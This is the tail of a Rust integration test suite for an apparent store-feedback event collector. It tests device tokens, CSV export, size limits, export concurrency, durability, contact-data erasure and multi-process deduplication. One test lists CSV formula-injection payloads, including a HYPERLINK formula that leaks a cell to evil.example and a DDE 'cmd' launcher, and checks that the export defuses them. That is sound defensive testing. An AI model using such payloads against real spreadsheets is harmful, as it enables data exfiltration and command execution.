        json!({"stored":1,"duplicates":0})
    );
    assert_eq!(
        post(&[at("k", "exit-kiosk-1")], Some(&kiosk)).json(),
        json!({"stored":1,"duplicates":0})
    );

    // Per event, like any refusal: the events outside the binding are named, nothing is stored.
    let mut other_store = at("c", "checkout-3");
    other_store["source"] = json!("/stores/elsewhere/touchpoints/checkout-3");
    let mut lying_data = at("d", "checkout-3");
    lying_data["data"]["touchpoint"] = json!("exit-kiosk-1");
    let r = post(
        &[
            at("b", "checkout-3"),
            at("x", "exit-kiosk-1"),
            other_store,
            lying_data,
        ],
        Some(&checkout),
    );
    assert_eq!(r.status, 422, "{}", r.body);
    let problems = r.json()["problems"].as_array().cloned().unwrap_or_default();
    let indexes: Vec<_> = problems
        .iter()
        .map(|p| p["index"].as_u64().unwrap_or(99))
        .collect();
    assert_eq!(indexes, [1, 2, 3]);
    assert!(problems.iter().all(|p| p["attribute"] == "source"));
    assert!(problems[0]["reason"]
        .as_str()
        .unwrap_or("")
        .contains("/stores/lanting-xuhui/touchpoints/checkout-3"));
    assert_eq!(
        s.stored_ids(),
        ["a", "k"],
        "nothing of a refused request is stored"
    );

    // A device token reads nothing.
    assert_eq!(
        s.get_with(
            "/api/events.ndjson",
            &[("Authorization", &bearer(&checkout))]
        )
        .status,
        401
    );

    let (code, list, _) = cli(&["token", "list", "--db", db]);
    assert_eq!(code, 0);
    assert_eq!(list.lines().count(), 3, "{list}");
    assert!(list.contains("checkout-3") && list.contains("active"));
    assert!(!list.contains("svt_"), "list never shows tokens");
    let id = list
        .lines()
        .find(|l| l.contains("checkout-3"))
        .and_then(|l| l.split('\t').next())
        .unwrap_or("")
        .to_owned();
    let (code, _, err) = cli(&["token", "revoke", &id, "--db", db]);
    assert_eq!(code, 0, "{err}");
    let r = post(&[at("e", "checkout-3")], Some(&checkout));
    assert_eq!(r.status, 401, "a revoked token is refused at once");
    let (code, _, err) = cli(&["token", "revoke", &id, "--db", db]);
    assert_eq!(code, 1);
    assert!(err.contains("no active device token"), "{err}");
    let (_, list, _) = cli(&["token", "list", "--db", db]);
    assert!(
        list.lines()
            .any(|l| l.starts_with(&id) && l.contains("revoked")),
        "{list}"
    );
    assert_eq!(post(&[at("f", "exit-kiosk-1")], Some(&kiosk)).status, 200);
}
}

both! {
fn shared_token_and_device_tokens_side_by_side() {
    let dir = temp_dir("shared-and-device");
    let db = dir.join("events.sqlite");
    let db = db_arg(db.to_str().unwrap_or("x"));
    let db = db.as_str();
    let (code, token, err) = cli(&[
        "token",
        "add",
        "--store",
        "test",
        "--touchpoint",
        "t1",
        "--db",
        db,
    ]);
    assert_eq!(code, 0, "{err}");
    let s = start(&["--db", db, "--token", "shared-ingest-token"]);
    let mut elsewhere = event("b");
    elsewhere["source"] = json!("/stores/other/touchpoints/zz");
    // The shared token (compatibility mode) may post for any source: that is why it is weaker.
    let r = s
        .try_post(
            "/api/events",
            BATCH,
            &Value::from(vec![event("a"), elsewhere.clone()]).to_string(),
            &[("Authorization", "Bearer shared-ingest-token")],
        )
        .expect("answered");
    assert_eq!(r.status, 200, "{}", r.body);
    let r = s
        .try_post(
            "/api/events",
            BATCH,
            &Value::from(vec![event("c")]).to_string(),
            &[("Authorization", &bearer(token.trim()))],
        )
        .expect("answered");
    assert_eq!(r.status, 200, "{}", r.body);
    let r = s
        .try_post(
            "/api/events",
            BATCH,
            &Value::from(vec![elsewhere]).to_string(),
            &[("Authorization", &bearer(token.trim()))],
        )
        .expect("answered");
    assert_eq!(r.status, 422);
}
}

both! {
fn csv_defuses_formulas_and_ndjson_stays_exact() {
    let s = start(&[]);
    let nasty = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+86 138 1234 5678",
        "-1+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\tTAB",
        "\rCR",
    ];
    let events: Vec<Value> = nasty
        .iter()
        .enumerate()
        .map(|(i, text)| {
            let mut e = survey(
                &format!("f{i}"),
                text,
                Some("2026-11-30T05:18:21.123Z"),
                9,
                4,
                80.0,
            );
            e["source"] = json!(format!("/stores/lanting-xuhui/touchpoints/t{i}"));
            e
        })
        .collect();
    let mut formula_id = event("=1+2");
    formula_id["type"] = json!("@type");
    let mut all = events.clone();
    all.push(formula_id.clone());
    assert_eq!(s.post_batch(&all).status, 200);

    let rows = parse_csv(&s.get("/api/events.csv").body);
    for (i, text) in nasty.iter().enumerate() {
        assert_eq!(
            rows[i + 1][5],
            format!("'{text}"),
            "touchpoint column of row {i}"
        );
    }
    let last = &rows[nasty.len() + 1];
    assert_eq!((last[2].as_str(), last[3].as_str()), ("'=1+2", "'@type"));
    // Every cell of the file: none starts with a formula character once parsed.
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?}"
            );
        }
    }
    // NDJSON keeps the exact values.
    let mut expected = events;
    expected.push(formula_id);
    assert_eq!(s.stored(), expected);
}
}

both! {
fn a_megabyte_of_empty_events_gets_a_short_answer() {
    let s = start(&[]);
    let n = (1_048_576 - 2) / 3; // "[" + "{}," * n + "]" fits in the 1 MiB limit
    let mut body = String::with_capacity(1_048_576);
    body.push('[');
    for i in 0..n {
        body.push_str(if i + 1 == n { "{}" } else { "{}," });
    }
    body.push(']');
    assert!(body.len() <= 1_048_576);
    let r = s.post(BATCH, &body);
    assert_eq!(r.status, 400);
    let json = r.json();
    let listed = json["problems"].as_array().map(Vec::len).unwrap_or(0);
    // specversion, id, source and type are missing in each.
    assert_eq!(
        (listed, json["problem_count"].as_u64()),
        (100, Some(4 * n as u64))
    );
    assert_eq!(json["problems_truncated"], json!(true));
    assert_eq!(
        json["problems"][0],
        json!({"index":0,"attribute":"specversion","reason":"specversion is required and must be \"1.0\""})
    );
    assert!(
        r.body.len() < 16_384,
        "answer of {} bytes to a {} byte request",
        r.body.len(),
        body.len()
    );
    println!("1 MiB of {n} empty events: answer {} bytes", r.body.len());
    assert!(s.stored().is_empty());
}
}

/// Fills a database file with `n` small events through the store itself (real SQLite).
fn fill(db: &std::path::Path, n: usize) {
    use storevoice_collector::cloudevents::{parse_request, Mode};
    use storevoice_collector::store::Store;
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("runtime");
    let store = rt
        .block_on(Store::open_async(&db_arg(db.to_str().unwrap_or("x"))))
        .expect("store");
    for chunk in 0..n.div_ceil(10_000) {
        let batch: Vec<Value> = (chunk * 10_000..n.min((chunk + 1) * 10_000))
            .map(|i| event(&format!("bulk-{i:06}")))
            .collect();
        let events = parse_request(Mode::Batch, Value::from(batch).to_string().as_bytes())
            .expect("valid events");
        rt.block_on(store.insert(events)).expect("inserted");
    }
}

// Exports stream from a read connection (SQLite) or any pooled connection (PostgreSQL),
// one page at a time, so ingest goes on while they run. This checks the behaviour, not a
// budget: each counted POST starts and ends while all four exports are still streaming
// (their byte counts grow around it), and the bounds (median under 1 s, none over 5 s) are
// generous enough for a loaded machine yet far below what a blocked ingest takes (before
// the fix a POST waited for whole exports: tens of seconds). The latency itself is measured
// by `scripts/bench-collector.sh` (BENCHMARKS.md, "Collector under load").
both! {
fn a_post_during_four_big_exports_is_not_blocked() {
    use std::io::Read;
    use std::sync::atomic::{AtomicU64, Ordering};
    const ROWS: usize = 200_000;
    let dir = temp_dir("exports-vs-ingest");
    let db = dir.join("events.sqlite");
    let t = Instant::now();
    fill(&db, ROWS);
    println!("filled {ROWS} events in {:?}", t.elapsed());
    let s = Arc::new(start(&["--db", db.to_str().unwrap_or("x")]));
    // Bytes received so far by each export.
    let progress: Arc<Vec<AtomicU64>> = Arc::new((0..4).map(|_| AtomicU64::new(0)).collect());
    let exports: Vec<_> = [
        "/api/events.ndjson",
        "/api/events.csv",
        "/api/events.ndjson",
        "/api/events.csv",
    ]
    .into_iter()
    .enumerate()
    .map(|(k, path)| {
        let (s, progress) = (Arc::clone(&s), Arc::clone(&progress));
        std::thread::spawn(move || -> Result<usize, String> {
            let slow = ureq::Agent::config_builder()
                .proxy(None)
                .timeout_global(Some(Duration::from_secs(600)))
                .build()
                .new_agent();
            let resp = slow
                .get(s.url(path))
                .header("Authorization", &format!("Bearer {}", s.admin))
                .call()
                .map_err(|e| format!("{path}: {e}"))?;
            if resp.status() != 200 {
                return Err(format!("{path}: status {}", resp.status()));
            }
            let mut reader = resp.into_body().into_reader();
            let (mut buf, mut lines) = (vec![0u8; 64 * 1024], 0usize);
            loop {
                let n = reader.read(&mut buf).map_err(|e| format!("{path}: {e}"))?;
                if n == 0 {
                    return Ok(lines);
                }
                progress[k].fetch_add(n as u64, Ordering::SeqCst);
                lines += buf[..n].iter().filter(|b| **b == b'\n').count();
            }
        })
    })
    .collect();
    let all_running = |exports: &[std::thread::JoinHandle<Result<usize, String>>]| {
        exports.iter().all(|h| !h.is_finished())
    };
    let snapshot = |p: &[AtomicU64]| p.iter().map(|b| b.load(Ordering::SeqCst)).collect::<Vec<_>>();
    let t_exports = Instant::now();
    // Wait until every export has sent its first bytes (or one ended: then it failed or
    // was too quick to overlap, which the assertions below report).
    while snapshot(&progress).contains(&0) && all_running(&exports) {
        assert!(t_exports.elapsed() < Duration::from_secs(300), "the exports did not start");
        std::thread::sleep(Duration::from_millis(5));
    }
    let (mut during, mut posted, mut i) = (Vec::new(), 0usize, 0usize);
    let mut overlapping_progress = false;
    while all_running(&exports) {
        let before = snapshot(&progress);
        let t = Instant::now();
        let r = s.post_batch(&[event(&format!("during-{i}"))]);
        let took = t.elapsed();
        assert_eq!(r.status, 200, "{}", r.body);
        posted += 1;
        // Counted only when all four exports were still running when it was answered.
        if all_running(&exports) {
            during.push(took);
            let after = snapshot(&progress);
            overlapping_progress |= before.iter().zip(&after).any(|(b, a)| a > b);
        }
        i += 1;
        std::thread::sleep(Duration::from_millis(20));
    }
    let lines: Vec<usize> = exports
        .into_iter()
        .map(|h| match h.join() {
            Ok(Ok(lines)) => lines,
            Ok(Err(e)) => panic!("export failed: {e}"),
            Err(_) => panic!("export thread panicked"),
        })
        .collect();
    println!("4 exports of {ROWS} rows took {:?}", t_exports.elapsed());
    // NDJSON: one line per event; CSV: a header and one line per event (no line breaks in
    // these small events). The POSTs during the exports are not in them: each export has
    // exactly the events committed when it started.
    assert_eq!(lines, [ROWS, ROWS + 1, ROWS, ROWS + 1]);
    during.sort();
    let max = during.last().copied().unwrap_or_default();
    let median = during.get(during.len() / 2).copied().unwrap_or_default();
    println!(
        "POST during 4 exports of {ROWS} rows: {} posts, median {median:?}, max {max:?}",
        during.len()
    );
    assert!(
        during.len() >= 3,
        "only {} POSTs were answered while all exports ran",
        during.len()
    );
    assert!(
        overlapping_progress,
        "the exports made no progress while a POST was in flight"
    );
    assert!(
        median < Duration::from_secs(1) && max < Duration::from_secs(5),
        "POSTs during the exports: median {median:?}, max {max:?}"
    );
    // Every POST was stored (and acknowledged = stored).
    let status = s.get("/api/status").json();
    if !on_postgres() {
        assert_eq!(status["last_seq"], json!(ROWS + posted), "{status}");
    }
    let summary = s.get("/api/summary").json();
    assert_eq!(summary["total"], json!(ROWS + posted), "{summary}");
}
}

// Acknowledged must mean stored, also across a power cut: the live connections commit
// with `synchronous=FULL` (WAL with NORMAL may lose the last commits).
both! {
fn commits_are_durable_before_the_answer() {
    let dir = temp_dir("durability");
    let db = dir.join("events.sqlite");
    let s = start(&["--db", db.to_str().unwrap_or("x")]);
    assert_eq!(s.post_batch(&[event("a")]).status, 200);
    // A read first, so a read connection is live too.
    assert_eq!(s.stored_ids(), ["a"]);
    assert_eq!(s.get_with("/api/status", &[]).status, 401, "status is admin only");
    let status = s.get("/api/status").json();
    if on_postgres() {
        // Every live connection: commits wait for the WAL flush, and the flush is real.
        assert_eq!(status["backend"], "postgres");
        let settings = status["durability"].as_object().cloned().unwrap_or_default();
        assert_eq!(settings.len(), 8, "{settings:?}");
        for (k, v) in settings {
            assert_eq!(v, "on", "{k}");
        }
        assert_eq!(status["last_seq"], json!(1));
        return;
    }
    assert_eq!(status["backend"], "sqlite");
    assert_eq!(
        status["durability"],
        json!({"writer synchronous":"full","writer journal_mode":"wal",
               "reader synchronous":"full","reader journal_mode":"wal"})
    );
    assert_eq!(status["last_seq"], json!(1));
}
}

fn feedback(id: &str, reference: &str, phone: &str, email: &str) -> Value {
    json!({"specversion":"1.0","id":id,"source":"/stores/lanting-xuhui/touchpoints/qr-fitting-rooms",
           "type":"storevoice.feedback.v1","time":"2026-11-30T06:02:11.480Z","datacontenttype":"application/json",
           "data":{"kind":"feedback","id":id,"reference":reference,"feedback_kind":"complaint","category":"service",
                   "text":format!("Nobody came. Call me: {phone}"),"store_id":"lanting-xuhui","touchpoint":"qr-fitting-rooms",
                   "consent":true,"contact":{"name":"Li Lei","phone":phone,"email":email,"channel":"email"}}})
}

both! {
fn forget_removes_contact_details_from_the_database_file() {
    let dir = temp_dir("forget");
    let db = dir.join("events.sqlite");
    let dbs = db_arg(db.to_str().unwrap_or("x"));
    let dbs = dbs.as_str();
    // Raw file bytes exist only on SQLite; on PostgreSQL forget VACUUMs the table, and the
    // checks below are on what the collector serves.
    let sqlite = !on_postgres();
    let s = start(&["--db", dbs]);
    let mine = feedback("f-1", "2CYM-MMKF-X", "13812345678", "li.lei@example.com");
    let other = feedback("f-2", "7QWE-RTYP-4", "13987654321", "wang.fang@example.com");
    let third = feedback("f-3", "8ABC-DEFG-H", "+85291234567", "chen.jie@example.com");
    assert_eq!(s.post_batch(&[mine, other, third]).status, 200);
    assert_eq!(s.stored().len(), 3, "a read connection is open while forget runs");
    let raw = if sqlite { raw_db_bytes(&db) } else { Vec::new() };
    assert!(!sqlite || contains(&raw, "13812345678") && contains(&raw, "li.lei@example.com"), "the test itself must see the bytes first");

    // While the collector runs, as an operator would.
    let (code, out, err) = cli(&["forget", "--phone", "138 1234 5678", "--db", dbs]);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("removed the contact details of 1 entry found by phone"), "{err}");
    assert!(!err.contains("13812345678") && !out.contains("13812345678"), "the log holds no data");

    let raw = if sqlite { raw_db_bytes(&db) } else { Vec::new() };
    for gone in ["13812345678", "li.lei@example.com"] {
        assert!(!contains(&raw, gone), "{gone} is still in the database file");
    }
    for kept in ["13987654321", "wang.fang@example.com", "+85291234567"] {
        assert!(!sqlite || contains(&raw, kept), "{kept} of another customer must stay");
    }
    let stored = s.stored();
    assert_eq!(stored[0]["data"].get("contact"), None);
    assert_eq!(stored[0]["data"]["contact_removed"], true);
    assert_eq!(stored[0]["data"]["text"], "Nobody came. Call me: [removed]");
    assert_eq!(stored[0]["data"]["reference"], "2CYM-MMKF-X", "the entry itself stays");
    assert_eq!(stored[1]["data"]["contact"]["phone"], "13987654321");

    // By reference and by e-mail.
    let (code, _, err) = cli(&["forget", "--reference", "7qwe-rtyp-4", "--db", dbs]);
    assert_eq!(code, 0, "{err}");
    let (code, _, err) = cli(&["forget", "--email", "Chen.Jie@example.com", "--db", dbs]);
    assert_eq!(code, 0, "{err}");
    let raw = if sqlite { raw_db_bytes(&db) } else { Vec::new() };
    for gone in ["13987654321", "wang.fang@example.com", "+85291234567", "chen.jie@example.com", "Li Lei"] {
        assert!(!contains(&raw, gone), "{gone} is still in the database file");
    }
    // Nothing matched: success, said plainly.
    let (code, _, err) = cli(&["forget", "--reference", "2222-2222-2", "--db", dbs]);
    assert_eq!(code, 0);
    assert!(err.contains("nothing matched"), "{err}");
    let (code, _, err) = cli(&["forget", "--db", dbs]);
    assert_eq!(code, 2, "{err}");
    // The collector still works afterwards.
    assert_eq!(s.post_batch(&[event("after")]).status, 200);
    assert_eq!(s.stored().len(), 4);
}
}

// Two collector processes on one database, the same events posted to both at once: the
// UNIQUE (source, id) constraint alone keeps each stored once (on SQLite through WAL on one
// file, on PostgreSQL as a chain would run it behind a load balancer).
both! {
fn two_collector_processes_store_each_event_once() {
    use std::io::{BufRead, BufReader};
    use std::process::{Command, Stdio};
    let dir = temp_dir("two-processes");
    let db = db_arg(dir.join("events.sqlite").to_str().unwrap_or("x"));
    let token_file = dir.join("admin.token");
    let admin = "two-processes-admin-token";
    std::fs::write(&token_file, admin).expect("token file");
    // Killed on every way out of the test, a failed assertion included.
    struct Children(Vec<std::process::Child>);
    impl Drop for Children {
        fn drop(&mut self) {
            for c in &mut self.0 {
                let _ = c.kill();
                let _ = c.wait();
            }
        }
    }
    let mut children = Children(Vec::new());
    let mut bases = Vec::new();
    for _ in 0..2 {
        let mut child = Command::new(BIN)
            .args(["--addr", "127.0.0.1:0", "--db", &db, "--admin-token-file"])
            .arg(&token_file)
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .expect("spawn");
        let line = BufReader::new(child.stdout.take().expect("stdout"))
            .lines()
            .next()
            .and_then(Result::ok)
            .unwrap_or_default();
        bases.push(line.replace("storevoice-collector listening on ", ""));
        children.0.push(child);
    }
    let barrier = Arc::new(Barrier::new(8));
    let threads: Vec<_> = (0..8)
        .map(|t| {
            let (base, barrier) = (bases[t % 2].clone(), Arc::clone(&barrier));
            std::thread::spawn(move || {
                let agent = agent();
                let (mut stored, mut failures) = (0, Vec::new());
                for round in 0..10 {
                    // Every thread posts the same 40 events per round, in another order.
                    let batch: Vec<Value> = (0..40)
                        .map(|i| event(&format!("r{round}-e{}", (i * 7 + t * 3) % 40)))
                        .collect();
                    barrier.wait();
                    // No panic before the last barrier: the other threads would wait forever.
                    let answer = agent
                        .post(format!("{base}/api/events"))
                        .header("Content-Type", BATCH)
                        .send(Value::from(batch).to_string())
                        .map_err(|e| e.to_string())
                        .and_then(|r| {
                            let status = r.status().as_u16();
                            let body = r.into_body().read_to_string().map_err(|e| e.to_string())?;
                            Ok((status, body))
                        });
                    match answer {
                        Ok((200, body)) => {
                            let v: Value = serde_json::from_str(&body).unwrap_or_default();
                            match (v["stored"].as_u64(), v["duplicates"].as_u64()) {
                                (Some(s), Some(d)) if s + d == 40 => stored += s,
                                _ => failures.push(format!("round {round}: {body}")),
                            }
                        }
                        Ok((status, body)) => failures.push(format!("round {round}: {status} {body}")),
                        Err(e) => failures.push(format!("round {round}: {e}")),
                    }
                }
                (stored, failures)
            })
        })
        .collect();
    let mut total = 0u64;
    let mut failures = Vec::new();
    for h in threads {
        let (stored, f) = h.join().expect("thread");
        total += stored;
        failures.extend(f);
    }
    let export = agent()
        .get(format!("{}/api/events.ndjson", bases[1]))
        .header("Authorization", &format!("Bearer {admin}"))
        .call()
        .expect("export")
        .into_body()
        .read_to_string()
        .expect("body");
    drop(children);
    let ids: Vec<String> = export
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).map(|v| v["id"].as_str().unwrap_or("").to_owned()).unwrap_or_default())
        .collect();
    let distinct: BTreeSet<&String> = ids.iter().collect();
    // Every request answered 200 (on PostgreSQL, overlapping batches in different orders
    // used to deadlock: a 500 "deadlock detected", and this test hung at the barrier).
    assert!(failures.is_empty(), "{failures:#?}");
    assert_eq!((ids.len(), distinct.len(), total), (400, 400, 400), "each of the 400 events stored once, and acknowledged as stored once");
}
}
